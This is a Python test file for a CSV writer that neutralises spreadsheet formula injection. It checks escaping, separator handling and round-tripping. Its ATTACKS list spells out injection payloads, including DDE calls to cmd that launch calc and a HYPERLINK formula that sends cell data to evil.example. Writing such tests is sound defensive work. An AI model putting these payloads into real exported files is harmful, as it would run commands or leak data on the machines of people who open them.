"""Tables that are opened in a spreadsheet program: nothing in them is carried out, nothing lost."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from console.csv_cells import calm_cell, read, written

ATTACKS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|" /C calc"!A0',
    '=HYPERLINK("http://evil.example/?x="&A1,"ดู")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\ufeff=1+1",
    "＝1+1",
    "'=1+1",
    '"=1+1',
)
DANGEROUS = st.text(alphabet="=+-@'\"\t\r\n;, |aก＝\ufeff", max_size=30)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_begins_like_a_formula(attack: str) -> None:
    (row,) = csv.reader(io.StringIO(written([["ขอนแก่น", attack]]), newline=""))
    assert row[1].startswith("'")
    assert row[1] == "'" + attack.replace("\t=", "\t'=").replace("\r=", "\r'=").replace(
        "\n=", "\n'="
    )


@pytest.mark.parametrize("separator", [";", "\t"])
def test_a_program_set_up_for_another_separator_finds_no_formula_either(separator: str) -> None:
    """It splits our cells where we did not."""
    table = written([["x", f"a{separator}=cmd|' /C calc'!A0"], ["y", f'a"{separator}"@SUM(1)']])
    for line in table.splitlines():
        assert not [cell for cell in line.split(separator) if cell.lstrip('" ')[:1] in "=+-@"]


@given(st.lists(st.lists(st.text() | DANGEROUS, min_size=1, max_size=4), max_size=6))
def test_what_was_written_is_read_back(rows: list[list[str]]) -> None:
    assert read(written(rows)) == rows


@given(DANGEROUS)
def test_what_is_calm_stays_as_it_is(text: str) -> None:
    calm = "ก" + text.replace(";", "").replace("\t", "").replace("\n", "").replace("\r", "")
    assert calm_cell(calm) == calm


def test_a_number_stays_a_number() -> None:
    assert written([[-5, 2.5, "-5"]]) == '"-5","2.5","\'-5"\r\n'
